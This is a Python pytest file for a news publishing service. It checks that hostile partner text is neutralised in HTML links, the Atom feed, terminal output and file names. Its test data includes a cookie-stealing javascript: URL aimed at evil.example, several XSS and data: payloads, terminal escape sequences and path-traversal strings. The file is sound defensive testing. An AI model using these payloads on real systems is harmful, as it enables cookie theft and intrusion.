"""Hostile partner text in everything we emit: links, the Atom feed, terminals, file names.

The checks here read the output the way its consumer does (a browser's scheme rules, an XML
parser, a terminal, the file system), independently of the code that made it safe.
"""

from __future__ import annotations

import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
import structlog
from rich.console import Console

from services.publish.atom import feed_xml
from services.publish.formats import render, to_html
from services.publish.page.terminal import QueueFilters
from services.publish.page.terminal import render as render_queue
from services.publish.transports import DirectoryTransport, file_stem
from shared.config import Outlet
from shared.events import Enrichment, RelatedLink, StoryEnriched
from shared.story import Picture, Story
from shared.untrusted import safe_url, terminal_text, xml_text
from tests.helpers.outputs import TERMINAL_CONTROLS, assert_only_safe_links, linked_urls

NOW = datetime(2026, 4, 5, 12, 0, tzinfo=UTC)
ATOM = {"a": "http://www.w3.org/2005/Atom"}

SCRIPT_URLS = [
    "javascript:fetch('https://evil.example/?c='+document.cookie)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "\x01\x02javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "jav\r\nascript:alert(1)",
    "\x00javascript:alert(1)",
    "javascript\t:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    " \x0bdata:text/html,x",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
]


def enriched(uri: str = "urn:wire:1", **story: Any) -> StoryEnriched:
    fields: dict[str, Any] = {
        "partner": "alpha",
        "uri": uri,
        "headline": "Ceasefire declared",
        "body_html": "<p>One.</p><p>Two.</p><p>Three.</p>",
        "language": "en",
        **story,
    }
    s = Story(**fields)
    related = [RelatedLink(story_id="bravo-1", uri=uri, headline="Planted by bravo", score=0.9)]
    return StoryEnriched(
        story_id=s.id,
        trace_id="t",
        received_at=NOW,
        enriched_at=NOW,
        story=s,
        enrichment=Enrichment(related=related),
    )


# --- hole 2: only safe schemes ever become links ------------------------------------------


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_a_script_url_never_becomes_a_link_in_an_html_rendition(url: str) -> None:
    story = enriched(url, pictures=[Picture(uri=url, caption="A picture")])
    article = to_html(story, Outlet(name="web", format="html"), None)
    assert_only_safe_links(linked_urls(article))
    assert "Related: Planted by bravo" in article  # the link's words stay, as text


@pytest.mark.parametrize("url", SCRIPT_URLS)
def test_a_script_url_never_becomes_a_link_in_the_atom_feed(url: str) -> None:
    story = enriched(url)
    rendition = render(story, Outlet(name="feed", transport="atom", format="html"), None, [])
    entry = {
        "story_id": story.story_id,
        "uri": url,
        "type": "story.published",
        "headline": story.story.headline,
        "html": rendition.html,
        "updated": NOW.isoformat(),
        "published": NOW.isoformat(),
    }
    root = ElementTree.fromstring(feed_xml("feed", "http://publish/feeds/feed.atom", [entry], NOW))
    assert_only_safe_links([link.get("href", "") for link in root.iter("{http://www.w3.org/2005/Atom}link")])
    for content in root.iter("{http://www.w3.org/2005/Atom}content"):
        assert_only_safe_links(linked_urls(content.text or ""))


@pytest.mark.parametrize(
    "url", ["https://news.example/a?b=1&c=2", "HTTP://NEWS.EXAMPLE/x", "mailto:desk@news.example"]
)
def test_safe_urls_still_become_links(url: str) -> None:
    article = to_html(enriched(url), Outlet(name="web", format="html"), None)
    assert url in linked_urls(article)
    assert safe_url(url) == url


@pytest.mark.parametrize("url", ["", "news.example/x", "//evil.example/x", "urn:wire:1", "#top"])
def test_relative_and_non_web_urls_are_not_links(url: str) -> None:
    assert safe_url(url) is None


# --- hole 6: the Atom feed stays well-formed whatever one entry holds ----------------------


@pytest.mark.parametrize(
    ("uri", "headline"),
    [
        ('https://news.example/"><script>alert(1)</script>', "Quote in the uri"),
        ("https://news.example/a'b\"c", "Both quotes"),
        ("urn:wire:1", "NUL \x00 and escape \x1b[2J and form feed \x0c in a headline"),
        ("urn:wire:1", "A lone surrogate \ud800 and U+FFFE \ufffe"),
        ("urn:wire:1", "]]> <![CDATA[ & &amp; <feed>"),
    ],
)
def test_one_hostile_entry_never_breaks_the_feed_for_the_others(uri: str, headline: str) -> None:
    good = {
        "story_id": "bravo-1",
        "uri": "https://bravo.example/1",
        "type": "story.published",
        "headline": "An honest story",
        "html": "<p>Fine</p>",
        "updated": NOW.isoformat(),
        "published": NOW.isoformat(),
    }
    hostile = {**good, "story_id": "alpha-1", "uri": uri, "headline": headline, "summary": headline}
    hostile["html"] = f"<p>{headline}</p>"
    document = feed_xml("feed", 'http://publish/feeds/feed.atom?x="><y', [hostile, good], NOW)
    root = ElementTree.fromstring(document.encode("utf-8"))
    titles = [e.findtext("a:title", namespaces=ATOM) for e in root.findall("a:entry", ATOM)]
    assert titles[1] == "An honest story"
    assert titles[0] == xml_text(headline)
    links = {link.get("rel"): link.get("href") for link in root.iter("{http://www.w3.org/2005/Atom}link")}
    assert links["self"] == 'http://publish/feeds/feed.atom?x="><y'  # an attribute value, escaped


# --- hole 10: no control characters reach a terminal ---------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mRED\x9b31m\u202eevil\x08\x00"


def test_the_terminal_queue_prints_no_control_characters() -> None:
    delivery = {
        "story_id": "alpha-1",
        "headline": f"Headline {ESCAPES}",
        "outlet": "web",
        "partner": f"p{ESCAPES}",
        "status": "failed",
        "last_error": f"HTTP 500: [/bold] [red]{ESCAPES}",
        "status_code": 500,
        "flags": [f"URGENT{ESCAPES}"],
        "age_label": ESCAPES,
        "queued_at": ESCAPES,
    }
    snapshot = {"deliveries": [delivery], "counts": {"by_outlet": {f"o{ESCAPES}": {"failed": 1}}}}
    out = io.StringIO()
    console = Console(file=out, width=400, color_system=None, force_terminal=False)
    console.print(render_queue(snapshot, QueueFilters(q=ESCAPES), url="http://publish", error=ESCAPES))
    printed = out.getvalue()
    assert "Headline" in printed
    assert "[/bold] [red]" in printed  # shown as the outlet wrote it, not read as markup
    assert not TERMINAL_CONTROLS.search(printed), repr(printed)


def test_terminal_text_keeps_words_and_line_breaks_when_asked() -> None:
    assert terminal_text("a\x1b[31mb\nc\td") == "a[31mb c d"
    assert terminal_text("a\x1b]0;t\x07b\nc", lines=True) == "a]0;tb\nc"


def test_console_log_lines_carry_no_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    from shared.logging import configure_logging, get_logger

    saved = structlog.get_config()
    try:
        configure_logging("test", json=False)
        get_logger("test").warning("story refused", headline=ESCAPES, story_id="alpha-1")
    finally:
        structlog.configure(**saved)
        structlog.contextvars.unbind_contextvars("service")
    err = capsys.readouterr().err
    assert "story refused" in err
    for planted in ("\x1b]0;", "\x1b[2J", "\x1b[31mRED", "\u202e", "\x00"):
        assert planted not in err


# --- hole 11: directory-drop file names stay inside the folder ---------------------------


@pytest.mark.parametrize(
    "story_id", ["../../../x", "/etc/passwd", "a/../../b", "..", ".hidden", "a\x00b", "c:\\x", "é/../"]
)
async def test_a_hostile_story_id_never_writes_outside_the_drop_folder(story_id: str, tmp_path: Path) -> None:
    folder = tmp_path / "drop"
    outlet = Outlet(name="drop", transport="directory", path=str(folder), format="text")
    story = enriched().model_copy(update={"story_id": story_id})
    transport = DirectoryTransport(outlet)
    attempt, _ = await transport.send("msg_1", story, render(story, outlet, None, []), NOW)
    assert attempt.ok, attempt.error
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert [p.parent for p in written] == [folder]
    assert not written[0].name.startswith(".")


def test_file_stems_keep_ordinary_ids_and_separate_changed_ones() -> None:
    assert file_stem("alpha-0123456789abcdef0123") == "alpha-0123456789abcdef0123"
    assert file_stem("a/b") != file_stem("a_b")
    assert file_stem("a/b") != file_stem("a\\b")
